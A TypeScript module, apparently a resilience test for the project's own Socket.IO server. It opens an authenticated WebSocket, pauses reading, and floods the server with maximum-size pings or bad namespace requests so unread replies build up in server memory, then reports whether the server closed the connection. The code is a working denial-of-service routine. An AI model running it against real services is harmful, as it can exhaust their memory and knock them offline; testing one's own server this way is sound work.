import WebSocket from 'ws'
import { SOCKET_PATH } from '#protocol/socket.ts'

/** Of Engine.IO and Socket.IO: says whose the connection is; asks for a namespace that there is none of. */
const [CONNECT, ELSEWHERE] = ['40', '40/elsewhere,']
/** The most that a ping carries. */
const PING = Buffer.alloc(125)
const IN_ONE_GO = 500

export interface UnreadReplies {
  url: string
  /** session of an account */
  token: string
  /** what asks for a reply */
  kind: 'ping' | 'namespace'
  times: number
  /** how long it goes on reading afterwards */
  forMs: number
}

export interface UnreadFacts {
  sent: number
  /** ended by the other side meanwhile */
  isClosed: boolean
}

async function enter({ url, token }: UnreadReplies): Promise<WebSocket> {
  const address = `${url.replace(/^http/, 'ws')}${SOCKET_PATH}/?EIO=4&transport=websocket`
  const socket = new WebSocket(address, { headers: { authorization: `Bearer ${token}` } })
  socket.on('error', () => {})
  await new Promise<void>((resolve) => {
    socket.on('message', (data) => {
      const text = String(data)
      if (text.startsWith('0')) socket.send(CONNECT)
      if (text.startsWith(CONNECT)) resolve()
    })
  })
  return socket
}

const ASK = {
  ping: (socket: WebSocket) => socket.ping(PING, true, () => {}),
  namespace: (socket: WebSocket) => socket.send(ELSEWHERE, () => {}),
}

/** Asks over one signed-in connection for replies that nobody reads: they wait in the memory of the other side. */
export async function playUnreadReplies(attack: UnreadReplies): Promise<UnreadFacts> {
  const socket = await enter(attack)
  const facts: UnreadFacts = { sent: 0, isClosed: false }
  socket.once('close', () => {
    facts.isClosed = true
  })
  socket.pause()
  while (facts.sent < attack.times && socket.readyState === WebSocket.OPEN) {
    for (let n = 0; n < IN_ONE_GO; n++) ASK[attack.kind](socket)
    facts.sent += IN_ONE_GO
    await new Promise((resolve) => setImmediate(resolve))
  }
  socket.resume()
  for (const endMs = Date.now() + attack.forMs; !facts.isClosed && Date.now() < endMs; )
    await new Promise((resolve) => setTimeout(resolve, 20))
  socket.terminate()
  return facts
}
